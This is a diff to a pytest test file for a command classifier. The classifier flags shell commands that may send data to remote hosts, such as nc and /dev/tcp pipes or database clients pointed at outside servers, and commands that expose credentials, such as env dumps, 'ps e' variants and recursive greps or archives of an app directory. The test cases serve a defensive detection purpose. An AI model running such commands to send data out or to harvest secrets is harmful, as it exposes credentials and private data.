@@ -57,6 +57,15 @@ def test_every_program_is_named(command: str, programs: tuple[str, ...]) -> None
         ("git push", True),
         ("cat x | nc example.com 80", True),
         ("echo x > /dev/tcp/192.0.2.1/80", True),
+        ("mysql -h localhost -h db.example.com -e 'select 1'", True),
+        ("psql -h localhost -h db.example.com -c 'select 1'", True),
+        ("psql -c 'select 1' postgresql://x.example.com/x", True),
+        ("psql -d 'host=x.example.com' -c 'select 1'", True),
+        ("redis-cli -h x.example.com info", True),
+        ("pg_isready -h x.example.com", True),
+        ("mysqladmin -h x.example.com status", True),
+        ("mysqladmin -h localhost status", False),
+        ("psql -h /run/postgresql -c 'select 1' app", False),
         ("ls", False),
     ],
 )
@@ -64,6 +73,30 @@ def test_what_may_send_something_away_says_so(command: str, egress: bool) -> Non
     assert judge(command).egress is egress
 
 
-@pytest.mark.parametrize("command", ["env", "printenv", "ps auxe", "docker inspect web", "git config --list"])
+@pytest.mark.parametrize(
+    "command",
+    [
+        "env",
+        "printenv",
+        "ps auxe",
+        "ps ep1",
+        "ps eww1",
+        "ps axewwp1",
+        "docker inspect web",
+        "git config --list",
+        "grep -rh . /srv/app",
+        "rg --hidden password /srv/app",
+        "diff -r /srv/app /srv/old",
+        "tar -c -f - /srv/app",
+        "zip -r - /srv/app",
+    ],
+)
 def test_what_shows_passwords_often_says_so(command: str) -> None:
     assert judge(command).credentials
+
+
+@pytest.mark.parametrize(
+    "command", ["grep -rin error /var/log/nginx", "cp -r /srv/a /srv/b", "ps aux", "ps -ef"]
+)
+def test_what_shows_none_does_not_say_so(command: str) -> None:
+    assert not judge(command).credentials
